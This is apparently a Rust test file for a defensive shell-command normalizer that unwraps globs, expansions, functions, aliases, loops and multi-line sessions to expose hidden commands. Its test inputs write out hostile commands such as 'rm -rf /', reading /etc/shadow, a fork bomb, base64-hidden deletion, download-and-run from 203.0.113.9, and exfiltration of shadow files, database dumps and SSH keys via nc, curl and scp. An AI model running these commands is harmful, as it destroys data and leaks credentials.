//! What the shell knows beyond one word: globs and parameter expansion that spell a path, the
//! working directory, functions, aliases and downloaded files, within a line and across the lines
//! of a session.

use super::*;

/// The texts of the last line after reading the others in the same shell.
fn after(earlier: &[&str], line: &str) -> Vec<String> {
    let mut shell = ShellState::new();
    for earlier in earlier {
        shell.normalize(earlier);
    }
    shell.normalize(line).into_iter().map(|c| c.text).collect()
}

// --- globs ---------------------------------------------------------------------------------

#[test]
fn question_mark_globs_spell_the_shadow_file_and_its_reader() {
    assert!(has("/???/??t /???/?h?d?w", "cat /etc/shadow"));
    assert_eq!(via("/???/??t /???/?h?d?w", "cat /etc/shadow"), ["glob"]);
}

#[test]
fn a_star_completes_a_credentials_file() {
    assert!(has("cat /root/.aws/cred*", "cat /root/.aws/credentials"));
}

#[test]
fn a_glob_in_the_program_place_is_unwrapped_like_the_program() {
    assert!(has("/???/b??h -c 'cat /etc/shadow'", "cat /etc/shadow"));
}

#[test]
fn a_quoted_glob_is_not_expanded() {
    assert!(!has("echo '/???/?h?d?w'", "echo /etc/shadow"));
    assert!(!has("echo \"/???/?h?d?w\"", "echo /etc/shadow"));
}

#[test]
fn a_glob_naming_no_known_path_stays_as_written() {
    assert_eq!(texts("ls /srv/app/*.log"), ["ls /srv/app/*.log"]);
}

#[test]
fn a_relative_glob_is_matched_in_the_working_directory() {
    assert!(has("cd /etc && cat sh?dow", "cat /etc/shadow"));
}

// --- parameter expansion -------------------------------------------------------------------

#[test]
fn home_sliced_to_its_first_character_is_a_slash() {
    assert!(has(
        "cat ${HOME:0:1}etc${HOME:0:1}shadow",
        "cat /etc/shadow"
    ));
}

#[test]
fn slices_of_a_variable_assigned_on_the_line_are_known() {
    assert!(has("x=XXrmXX; ${x:2:2} -rf /", "rm -rf /"));
}

#[test]
fn an_unset_variable_with_a_default_takes_the_default() {
    assert!(has("cat ${nothing:-/etc/shadow}", "cat /etc/shadow"));
}

#[test]
fn replacement_and_removal_rebuild_a_path() {
    assert!(has(
        "p=/etc/shadXw.bak; cat ${p/X/o}",
        "cat /etc/shadow.bak"
    ));
    assert!(has("p=/etc/shadow.bak; cat ${p%.bak}", "cat /etc/shadow"));
}

#[test]
fn an_unknowable_expansion_is_left_as_written() {
    assert_eq!(texts("echo ${USER:0:1}"), ["echo ${USER:0:1}"]);
}

// --- working directory ---------------------------------------------------------------------

#[test]
fn a_star_after_cd_to_the_root_is_the_root() {
    assert!(has("cd / && rm -rf *", "rm -rf /*"));
    assert_eq!(via("cd / && rm -rf *", "rm -rf /*"), ["cwd /"]);
}

#[test]
fn the_working_directory_lasts_from_line_to_line() {
    let texts = after(&["cd /var/lib"], "rm -rf mysql");
    assert!(
        texts.contains(&"rm -rf /var/lib/mysql".to_string()),
        "{texts:?}"
    );
}

#[test]
fn relative_cd_and_dot_dot_are_followed() {
    let texts = after(&["cd /var/lib/mysql", "cd ../docker"], "rm -rf .");
    assert!(
        texts.contains(&"rm -rf /var/lib/docker".to_string()),
        "{texts:?}"
    );
}

#[test]
fn cd_dash_returns_to_the_previous_directory() {
    let texts = after(&["cd /etc", "cd /tmp", "cd -"], "cat shadow");
    assert!(texts.contains(&"cat /etc/shadow".to_string()), "{texts:?}");
}

#[test]
fn redirection_targets_are_resolved_too() {
    assert!(has(
        "cd /etc; echo 'x::0:0::/:/bin/sh' >> passwd",
        "echo x::0:0::/:/bin/sh >> /etc/passwd"
    ));
}

#[test]
fn options_modes_and_patterns_are_not_paths() {
    assert!(has("cd /etc; chmod +x rc.local", "chmod +x /etc/rc.local"));
    assert!(has("cd /etc; grep -r root .", "grep -r root /etc"));
}

#[test]
fn sizes_and_counts_are_not_paths() {
    assert!(has(
        "cd /var/log; truncate -s 0 auth.log",
        "truncate -s 0 /var/log/auth.log"
    ));
}

#[test]
fn a_subshell_or_child_shell_does_not_move_the_session() {
    assert!(!has("(cd /); rm -rf *", "rm -rf /*"));
    assert!(!has("bash -c 'cd /'; rm -rf *", "rm -rf /*"));
    assert!(!has("x=$(cd /; pwd); rm -rf *", "rm -rf /*"));
}

#[test]
fn an_unknown_target_or_a_login_shell_forgets_the_directory() {
    assert_eq!(after(&["cd /", "cd $DIR"], "rm -rf *"), ["rm -rf *"]);
    assert_eq!(after(&["cd /", "sudo su -"], "rm -rf *"), ["rm -rf *"]);
    assert_eq!(after(&["cd /", "cd"], "rm -rf *"), ["rm -rf *"]);
}

#[test]
fn a_file_server_without_a_root_serves_the_working_directory() {
    assert!(has(
        "cd / && python3 -m http.server 8080",
        "python3 -m http.server 8080 --directory /"
    ));
    assert!(has(
        "cd /etc; php -S 0.0.0.0:80",
        "php -S 0.0.0.0:80 -t /etc"
    ));
    assert!(!has(
        "cd /srv/site; python3 -m http.server -d public",
        "python3 -m http.server -d public --directory /srv/site"
    ));
}

#[test]
fn pwd_is_known_with_the_directory() {
    assert!(has("cd /etc; cat $PWD/shadow", "cat /etc/shadow"));
}

// --- functions and aliases -----------------------------------------------------------------

#[test]
fn a_function_called_on_the_line_runs_with_its_arguments() {
    assert!(has("f(){ rm -rf \"$1\"; }; f /", "rm -rf /"));
    assert_eq!(
        via("f(){ rm -rf \"$1\"; }; f /", "rm -rf /"),
        ["function f"]
    );
}

#[test]
fn a_function_defined_earlier_in_the_session_is_run_where_called() {
    let texts = after(
        &["function grab { cat \"${1}\" | nc 203.0.113.9 443; }"],
        "grab /etc/shadow",
    );
    assert!(
        texts.contains(&"cat /etc/shadow | nc 203.0.113.9 443".to_string()),
        "{texts:?}"
    );
}

#[test]
fn all_arguments_reach_a_function_through_dollar_at() {
    assert!(has("w(){ \"$@\"; }; w rm -rf /", "rm -rf /"));
}

#[test]
fn a_function_calling_itself_stays_bounded() {
    let entries = normalize(":(){ :|:& };:");
    assert!(entries.len() <= MAX_ENTRIES);
    assert!(has(":(){ :|:& };:", ": | :"));
}

#[test]
fn an_alias_defined_earlier_runs_its_text_with_the_arguments() {
    let texts = after(&["alias ll='rm -rf'"], "ll /");
    assert!(texts.contains(&"rm -rf /".to_string()), "{texts:?}");
}

#[test]
fn unalias_forgets() {
    assert_eq!(
        after(&["alias ll='rm -rf'", "unalias ll"], "ll /"),
        ["ll /"]
    );
}

// --- loops -------------------------------------------------------------------------------

#[test]
fn a_for_loop_runs_its_body_once_per_known_word() {
    let line = "for c in rm; do $c -rf /; done";
    assert!(has(line, "rm -rf /"));
    assert_eq!(via(line, "rm -rf /"), ["for c"]);
}

#[test]
fn a_for_loop_over_unknown_words_is_read_as_written() {
    assert_eq!(
        texts("for h in $(cat hosts); do ssh $h uptime; done"),
        ["cat hosts", "ssh $h uptime", "uptime"]
    );
}

#[test]
fn a_while_read_loop_runs_its_body_on_each_piped_line() {
    let line = "printf 'id\\nrm -rf /\\n' | while read -r c; do $c; done";
    assert!(has(line, "rm -rf /"), "{:?}", texts(line));
    assert_eq!(via(line, "rm -rf /"), ["while read"]);
}

#[test]
fn a_while_read_loop_reads_a_decoded_here_string() {
    let line = "while read c; do eval \"$c\"; done <<< \"$(echo cm0gLXJmIC8= | base64 -d)\"";
    assert!(has(line, "rm -rf /"), "{:?}", texts(line));
}

#[test]
fn the_file_a_while_read_loop_reads_is_shown_with_read() {
    let line = "while IFS= read -r l; do echo \"$l\"; done < /etc/shadow";
    assert!(has(line, "read -r l < /etc/shadow"), "{:?}", texts(line));
}

#[test]
fn read_splits_a_line_into_its_variables() {
    let line = "echo 'rm -rf /' | while read cmd args; do $cmd $args; done";
    assert!(has(line, "rm -rf /"), "{:?}", texts(line));
}

// --- downloads -----------------------------------------------------------------------------

#[test]
fn a_downloaded_file_run_later_is_a_download_run() {
    let texts = after(
        &["curl -fsSL -o /tmp/i.sh https://203.0.113.9/i.sh"],
        "sh /tmp/i.sh",
    );
    assert!(
        texts.contains(&"curl https://203.0.113.9/i.sh | sh".to_string()),
        "{texts:?}"
    );
}

#[test]
fn a_download_named_after_its_url_and_run_from_the_directory() {
    let texts = after(
        &["cd /dev/shm", "wget http://203.0.113.9/k", "chmod +x k"],
        "./k",
    );
    assert!(
        texts.contains(&"wget http://203.0.113.9/k | sh".to_string()),
        "{texts:?}"
    );
}

#[test]
fn a_temporary_file_named_by_a_variable_is_followed() {
    let line = "T=$(mktemp); curl -so $T https://203.0.113.9/a; bash $T";
    assert!(has(line, "curl https://203.0.113.9/a | bash"));
}

#[test]
fn a_download_redirected_into_a_file_counts() {
    let line = "curl https://203.0.113.9/p.py > /tmp/p.py; python3 /tmp/p.py";
    assert!(has(line, "curl https://203.0.113.9/p.py | python3"));
}

#[test]
fn a_file_not_downloaded_is_just_run() {
    assert_eq!(
        after(&["curl -o /tmp/a https://203.0.113.9/a"], "sh /tmp/b"),
        ["sh /tmp/b"]
    );
}

// --- files made from others ----------------------------------------------------------------

#[test]
fn an_archive_uploaded_later_is_read_as_its_sources() {
    let texts = after(
        &["tar czf /tmp/w.tgz /var/www"],
        "curl -F f=@/tmp/w.tgz https://transfer.example.net",
    );
    assert!(
        texts.contains(&"curl -F f=@/var/www https://transfer.example.net".to_string()),
        "{texts:?}"
    );
}

#[test]
fn a_dump_written_to_a_file_and_sent_reads_as_the_dump_piped_in() {
    let line = "pg_dump -U postgres app > /tmp/d.sql; curl -T /tmp/d.sql https://203.0.113.9/u";
    assert!(has(
        line,
        "pg_dump -U postgres app | curl -T - https://203.0.113.9/u"
    ));
}

#[test]
fn a_copy_fed_to_a_network_tool_reads_as_the_original() {
    let line = "cp /etc/shadow /tmp/.s; nc 203.0.113.9 4444 < /tmp/.s";
    assert!(
        has(line, "cat /etc/shadow | nc 203.0.113.9 4444"),
        "{:?}",
        texts(line)
    );
}

#[test]
fn an_archive_made_in_the_working_directory_is_followed() {
    let texts = after(
        &["cd /tmp", "zip -r out.zip /root/.ssh"],
        "scp out.zip u@203.0.113.9:",
    );
    assert!(
        texts.contains(&"scp /root/.ssh u@203.0.113.9:".to_string()),
        "{texts:?}"
    );
}

#[test]
fn a_file_not_made_from_others_is_just_sent() {
    assert_eq!(
        texts("curl -T report.pdf https://files.example.net"),
        ["curl -T report.pdf https://files.example.net"]
    );
}

// --- variables -----------------------------------------------------------------------------

#[test]
fn a_variable_assigned_on_an_earlier_line_is_known() {
    let texts = after(&["F=/etc/shadow"], "cat $F");
    assert_eq!(texts, ["cat /etc/shadow"]);
}

#[test]
fn which_names_the_program_it_finds() {
    assert_eq!(via("sudo \"$(which bash)\"", "bash"), ["sudo", "$()"]);
}

// --- texts alone -----------------------------------------------------------------------------

#[test]
fn the_texts_alone_are_the_texts_of_the_full_entries_in_order() {
    let session = [
        "cd /etc && x=shadow",
        "sudo -u root bash -c 'cat $x; echo cm0gLXJmIC8K | base64 -d | sh'",
        "for f in /etc/passwd /etc/group; do cat $f; done | grep root",
    ];
    let (mut full, mut alone) = (ShellState::new(), ShellState::new());
    for line in session {
        let texts: Vec<String> = full.normalize(line).into_iter().map(|c| c.text).collect();
        assert_eq!(alone.normalize_texts(line), texts, "{line}");
    }
}

#[test]
fn a_line_of_many_commands_reports_each_text_once_past_the_first_sixteen() {
    let line = (0..60)
        .map(|i| format!("echo {}", i % 30))
        .collect::<Vec<_>>()
        .join("; ");
    let expected: Vec<String> = (0..30).map(|i| format!("echo {i}")).collect();
    assert_eq!(texts(&line), expected);
    assert_eq!(ShellState::new().normalize_texts(&line), expected);
}
